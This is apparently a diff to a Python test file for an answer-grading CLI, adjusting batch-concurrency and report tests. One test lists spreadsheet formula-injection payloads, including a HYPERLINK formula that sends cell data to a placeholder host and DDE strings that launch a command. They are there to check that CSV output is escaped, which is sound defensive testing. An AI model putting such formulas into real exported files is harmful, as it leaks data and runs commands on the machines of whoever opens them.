@@ -100,7 +100,7 @@ def test_a_re_run_after_fixing_bad_rows_leaves_each_answer_once(
     assert "compacted" in capsys.readouterr().err
     assert main(["report", str(out)]) == 0
     table = capsys.readouterr().out
-    assert [line.split()[0] for line in table.splitlines()[1:5]] == ["a0", "a1", "a2", "a3"]
+    assert [line.split()[0] for line in table.splitlines()[2:6]] == ["a0", "a1", "a2", "a3"]
     assert "4 answers" in table
 
 
@@ -163,13 +163,13 @@ def test_two_batch_processes_on_one_output_never_double_it(tmp_path: Path) -> No
     """A real second process while the first one runs: it stops at once with exit 2, and the
     first one's file ends with every answer exactly once."""
     lib = small_library(tmp_path / "rubrics")
-    source = _write(tmp_path / "in.jsonl", _rows(12))
+    source = _write(tmp_path / "in.jsonl", _rows(20))
     out = tmp_path / "out.jsonl"
     env = {**os.environ, "OPENAI_API_KEY": "local-key", "PYTHONPATH": str(REPO / "src")}
-    with StubServer(StubConfig(latency=0.15)) as server:
+    with StubServer(StubConfig(latency=0.2)) as server:  # about 4 s of work for the first
         argv = [sys.executable, "-m", "answer_eval.cli", "batch", str(source), "-o", str(out),
                 "--rubrics", str(lib), "--judge", "openai", "--model", "stub", "--base-url",
-                server.base_url, "--no-cache", "--no-progress", "--concurrency", "2"]  # fmt: skip
+                server.base_url, "--no-cache", "--no-progress", "--concurrency", "1"]  # fmt: skip
         first = subprocess.Popen(argv, env=env, stderr=subprocess.PIPE, text=True)
         lock = out.with_name("out.jsonl.lock")
         deadline = time.monotonic() + 20
@@ -182,7 +182,7 @@ def test_two_batch_processes_on_one_output_never_double_it(tmp_path: Path) -> No
     assert str(lock) in second.stderr
     assert "Traceback" not in second.stderr
     assert first.returncode == 0, first_err
-    assert sorted(_ids(out)) == sorted(f"a{i}" for i in range(12))
+    assert sorted(_ids(out)) == sorted(f"a{i}" for i in range(20))
 
 
 def test_output_naming_a_folder_is_a_usage_error(
@@ -196,7 +196,7 @@ def test_output_naming_a_folder_is_a_usage_error(
 # ---------------------------------------------------------------------------- spreadsheets
 
 HOSTILE = {
-    "id": "=HYPERLINK(\"http://x.test/?\"&A1,\"open\")",
+    "id": '=HYPERLINK("http://x.test/?"&A1,"open")',
     "candidate": "+cmd|' /C calc'!A0",
     "role": "@SUM(1+1)*cmd|' /C calc'!A0",
     "team": "-2+3",
@@ -229,7 +229,8 @@ def test_csv_output_is_safe_to_open_in_a_spreadsheet(
     assert first["id"] == "'" + HOSTILE["id"]
     assert first["candidate"] == "'" + HOSTILE["candidate"]
     assert (first["delta"], first["score"]) == ("-3", "2.5")  # numbers stay numbers
-    assert first["overall"] and float(first["overall"]) >= 1
+    assert first["overall"]
+    assert float(first["overall"]) >= 1
     assert second["status"] == "error"
     assert second["question_id"] == "'=why-us"
     judge.calls = 0
